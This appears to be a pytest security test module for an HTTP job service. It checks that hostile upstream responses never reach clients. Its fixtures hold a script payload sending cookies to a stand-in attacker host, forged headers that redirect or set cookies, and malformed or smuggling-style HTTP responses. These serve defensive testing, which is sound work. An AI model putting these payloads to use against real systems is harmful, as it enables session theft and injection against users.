"""API10:2023 Unsafe consumption of APIs: upstreams that answer with what would harm whoever believes them."""

from __future__ import annotations

import asyncio
import json
import threading
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest

from tests.fakes import far_end
from tests.waiting import eventually

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.e2e.api import Api
    from tests.fakes.far_end import FarEnd

_TIMEOUT_S = 30.0
SCRIPT = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
#: What an upstream may say of its answer, and must not come to pass for whoever fetches the result.
HOSTILE = {
    "Set-Cookie": "session=stolen; Path=/",
    "Location": "https://evil.example/",
    "Refresh": "0; url=https://evil.example/",
    "Content-Disposition": "inline; filename=x.html",
    "Content-Security-Policy": "default-src *",
    "X-Content-Type-Options": "none",
    "X-Frame-Options": "ALLOWALL",
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Credentials": "true",
    "Cache-Control": "public, max-age=31536000",
    "Clear-Site-Data": '"*"',
    "Strict-Transport-Security": "max-age=0",
    "Alt-Svc": 'h3="evil.example:443"',
    "Link": "<https://evil.example/x.js>; rel=preload",
    "Service-Worker-Allowed": "/",
    "SourceMap": "https://evil.example/x.map",
    "X-Penstock-Http-Status": "302",
    "X-Penstock-Identity": "forged",
    "X-Envoy-Upstream-Service-Time": "1",
    "Grpc-Status": "0",
    "RateLimit": '"key";r=1000000;t=1',
    "Server": "evil",
}
#: Types that a browser would run something of, and some that a careless one would guess at.
TYPES = (
    *("text/html", "text/html; charset=utf-7", "application/xhtml+xml", "image/svg+xml", "text/xml", "application/xml"),
    *("application/javascript", "text/javascript", "text/css", "multipart/x-mixed-replace; boundary=a", "text/plain"),
    *("application/x-shockwave-flash", "application/pdf", "message/rfc822", "text/html, application/json", "a", "/"),
    *("text/html\x0b", "text/html;" + "a" * 7000, "text/h\xfctml", "application/json\x01; text/html", "*/*", ""),
)


@pytest.fixture(scope="module")
def loop() -> Iterator[asyncio.AbstractEventLoop]:
    """A loop in a thread of its own, for the calls of these tests wait where they are."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever, daemon=True)
    thread.start()
    yield loop
    loop.call_soon_threadsafe(loop.stop)
    thread.join(_TIMEOUT_S)
    loop.close()


@contextmanager
def running(loop: asyncio.AbstractEventLoop) -> Iterator[FarEnd]:
    """An upstream on a port of its own, and so with a lane and a breaker of its own."""
    upstream = far_end.far_end()
    yield asyncio.run_coroutine_threadsafe(upstream.__aenter__(), loop).result(_TIMEOUT_S)
    asyncio.run_coroutine_threadsafe(upstream.__aexit__(None, None, None), loop).result(_TIMEOUT_S)


@pytest.fixture
def far(loop: asyncio.AbstractEventLoop) -> Iterator[FarEnd]:
    with running(loop) as upstream:
        yield upstream


@pytest.fixture
def another(loop: asyncio.AbstractEventLoop) -> Iterator[FarEnd]:
    with running(loop) as upstream:
        yield upstream


def ended(api: Api, url: str, **fields: Any) -> dict[str, Any]:
    """A job that called the URL once, at its end."""
    return api.wait(api.submit("http.get", {"url": url}, retry={"maxAttempts": 1}, **fields)["id"])


def answer(status: str, headers: dict[str, str], body: bytes) -> bytes:
    """What an upstream sends."""
    lines = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    return f"HTTP/1.1 {status}\r\n{lines}Content-Length: {len(body)}\r\n\r\n".encode("latin-1") + body


def test_no_header_of_an_upstream_is_one_of_ours(intruder: Api, far: FarEnd) -> None:
    job = ended(intruder, far.raw(answer("200 OK", {**HOSTILE, "Content-Type": "text/html"}, SCRIPT)))
    assert job["state"] == "SUCCEEDED", job
    fetched = intruder.call("GET", f"/api/v1/jobs/{job['id']}/result")
    assert (fetched.status, fetched.body) == (200, SCRIPT)
    for name, value in HOSTILE.items():
        assert fetched.headers.get(name.lower()) != value, name
    assert not {"set-cookie", "location", "refresh", "access-control-allow-origin", "link"} & fetched.headers.keys()
    assert "x-frame-options" in str(job["result"]), "the headers are where this test looks for cookies"
    assert "stolen" not in str(job)


@pytest.mark.parametrize("media", TYPES, ids=range(len(TYPES)))
def test_no_content_of_an_upstream_runs_in_a_browser(intruder: Api, far: FarEnd, media: str) -> None:
    job = ended(intruder, far.raw(answer("200 OK", {"Content-Type": media}, SCRIPT)))
    if job["state"] != "SUCCEEDED":  # no HTTP at all, which the upstream's own client has seen
        assert job["error"]["reason"] == "UPSTREAM_PROTOCOL", job
        return
    fetched = intruder.call("GET", f"/api/v1/jobs/{job['id']}/result")
    assert (fetched.status, fetched.body) == (200, SCRIPT)
    assert fetched.headers["content-disposition"] == "attachment"
    assert fetched.headers["x-content-type-options"] == "nosniff"
    assert fetched.headers["content-security-policy"].endswith("; sandbox")
    assert fetched.headers["content-type"].isascii()
    assert fetched.headers["content-type"].isprintable()
    assert len(fetched.headers["content-type"]) < 1000
    shown = intruder.call("GET", f"/api/v1/jobs/{job['id']}")
    assert shown.headers["content-type"] == "application/json"
    json.loads(shown.body.decode())  # whatever there is in the headers and the body of the result


@pytest.mark.parametrize(
    "raw",
    [
        b"",
        b"\0" * 5000,
        b"HTTP/0.9 200 OK\r\n\r\n",
        b"HTTP/1.1 0 \r\n\r\n",
        b"HTTP/1.1 99999 OK\r\n\r\n",
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\nhello",
        b"HTTP/1.1 100 Continue\r\n\r\n" * 2000,
        b"HTTP/1.1 200 OK\r\n" + b"X: " + b"x" * 1_000_000 + b"\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + b"X: x\r\n" * 100_000 + b"\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999999999999\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nhello",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n-5\r\nhello\r\n0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5;" + b"x" * 100_000 + b"\r\nhello\r\n0\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 5\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 12\r\n\r\n\x1f\x8b\x08\0\0\0\0\0\0\x03\x4b\x4c",
        b"HTTP/1.1 200 OK\r\nX\0Y: z\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nX : y\r\n folded: z\r\n\r\n",
        b"HTTP/1.1 200 OK\nX: y\n\nbody",
        b"HTTP/1.1 500 " + SCRIPT + b"\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 302 Found\r\nLocation: \r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 302 Found\r\nLocation: http://\xff\xfe/\r\nContent-Length: 0\r\n\r\n",
        b"HTTP/1.1 302 Found\r\nLocation: " + b"/x" * 3000 + b"\r\nContent-Length: 0\r\n\r\n",
    ],
    ids=range(25),
)
def test_what_is_hardly_an_answer_ends_its_job_and_nothing_else(intruder: Api, far: FarEnd, raw: bytes) -> None:
    job = ended(intruder, far.raw(raw))
    assert job["state"] in {"SUCCEEDED", "FAILED"}, job
    assert SCRIPT.decode() not in json.dumps(job)
    if job["state"] == "FAILED":
        assert job["error"]["reason"] in {
            *("UPSTREAM_PROTOCOL", "UPSTREAM_UNREACHABLE", "UPSTREAM_STATUS", "RESULT_TOO_LARGE", "ADDRESS_FORBIDDEN"),
        }, job
        assert job["error"]["message"].isprintable()
    assert ended(intruder, f"{far.url}/echo")["state"] == "SUCCEEDED"  # the worker goes on


@pytest.mark.parametrize(
    "headers",
    [
        {"Retry-After": "9" * 20},
        {"Retry-After": "Fri, 31 Dec 9999 23:59:59 GMT"},
        {"RateLimit": '"a";r=0;t=' + "9" * 15, "Retry-After": "86400000"},
        {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "9" * 15, "Retry-After": "1000000000"},
    ],
    ids=range(4),
)
def test_an_upstream_that_asks_for_endless_silence_silences_itself_alone_and_not_for_ever(
    intruder: Api, far: FarEnd, another: FarEnd, headers: dict[str, str]
) -> None:
    assert ended(intruder, far.raw(answer("429 Slow", headers, b"")))["state"] == "FAILED"
    held = intruder.submit("http.get", {"url": f"{far.url}/echo"})
    assert ended(intruder, f"{another.url}/echo")["state"] == "SUCCEEDED"
    (hold,) = intruder.call("GET", f"/api/v1/jobs/{held['id']}:explain").json["holds"]
    until = datetime.fromisoformat(hold["until"])
    assert timedelta(hours=23) < until - datetime.now(UTC) < timedelta(hours=24, minutes=1)
    assert intruder.call("POST", f"/api/v1/jobs/{held['id']}:cancel", {}).json["state"] == "CANCELED"


@pytest.mark.parametrize(
    "body", [b"\xff\xfe\x00", b"\0" * 1000, b'{"a": \xed\xa0\x80}', "\u2028\u202e\ufeff".encode(), b"\x1b[2J\r\n\x07"]
)
def test_whatever_bytes_an_upstream_sends_the_job_is_json_and_the_result_is_those_bytes(
    intruder: Api, far: FarEnd, body: bytes
) -> None:
    for media in ("application/json", "text/plain; charset=utf-8", "image/png"):
        job = ended(intruder, far.raw(answer("200 OK", {"Content-Type": media, "X-Note": "caf\xe9"}, body)))
        assert job["state"] == "SUCCEEDED", job
        assert intruder.call("GET", f"/api/v1/jobs/{job['id']}/result").body == body


async def test_a_receiver_of_callbacks_has_no_say_in_what_is_called(
    intruder: Api, far: FarEnd, another: FarEnd
) -> None:
    hook = another.raw(answer("307 Go", {"Location": f"{far.url}/echo?stolen"}, SCRIPT))
    assert ended(intruder, f"{far.url}/echo", callbackUrl=hook)["state"] == "SUCCEEDED"
    await eventually(lambda: len(another.asked) > 1, what="the second attempt, after the first one's answer")
    assert [each.url.query_string for each in far.asked] == [""]
